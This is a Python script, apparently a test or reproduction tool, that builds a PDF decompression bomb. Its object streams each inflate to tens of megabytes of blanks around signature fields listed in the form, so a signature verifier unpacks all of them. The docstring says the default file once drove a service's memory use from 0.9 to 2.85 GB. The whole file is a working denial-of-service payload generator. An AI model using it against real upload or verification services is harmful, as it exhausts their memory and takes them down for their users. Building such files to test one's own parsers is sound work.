#!/usr/bin/env python3
"""Writes a hostile PDF: STREAMS object streams, each deflating to MEGABYTES MB of blanks around one signature field
that the catalog's /AcroForm lists, so a verifier that follows the form decompresses every one of them.
The default (30 streams of 60 MB in about 1.8 MB) is the upload that once raised Segel from 0.9 to 2.85 GB.
Usage: make-bomb.py OUT.pdf [STREAMS=30] [MEGABYTES=60]"""
import sys
import zlib

def main(path, streams=30, megabytes=60):
    first_field = 100
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def obj(number, body):
        offsets[number] = len(out)
        out.extend(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")

    fields = " ".join(f"{first_field + i} 0 R" for i in range(streams))
    obj(1, f"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [{fields}] /SigFlags 3 >> >>".encode())
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    blank = b" " * (1024 * 1024)
    for i in range(streams):
        field = f"<< /FT /Sig /T (Tanda{i}) >>".encode()
        pad = megabytes * 1024 * 1024
        header = f"{first_field + i} {pad}".encode()
        header += b" " * (32 - len(header))
        z = zlib.compressobj(9)
        data = z.compress(header)
        for _ in range(megabytes):
            data += z.compress(blank)
        data += z.compress(field) + z.flush()
        # /First counts from the start of the decoded data: the field sits after the header and the blanks.
        body = f"<< /Type /ObjStm /N 1 /First 32 /Filter /FlateDecode /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"
        obj(10 + i, body)
    size = first_field + streams
    xref_number = 10 + streams
    offsets[xref_number] = len(out)
    rows = bytearray()
    for n in range(size):
        if n in offsets:
            rows += bytes([1]) + offsets[n].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif n >= first_field:
            rows += bytes([2]) + (10 + n - first_field).to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535 if n == 0 else 0).to_bytes(2, "big")
    out.extend(f"{xref_number} 0 obj\n<< /Type /XRef /Size {size} /W [1 4 2] /Root 1 0 R /Length {len(rows)} >>\nstream\n".encode()
               + bytes(rows) + b"\nendstream\nendobj\n")
    out.extend(f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode())
    open(path, "wb").write(out)

if __name__ == "__main__":
    main(sys.argv[1], *(int(a) for a in sys.argv[2:4]))
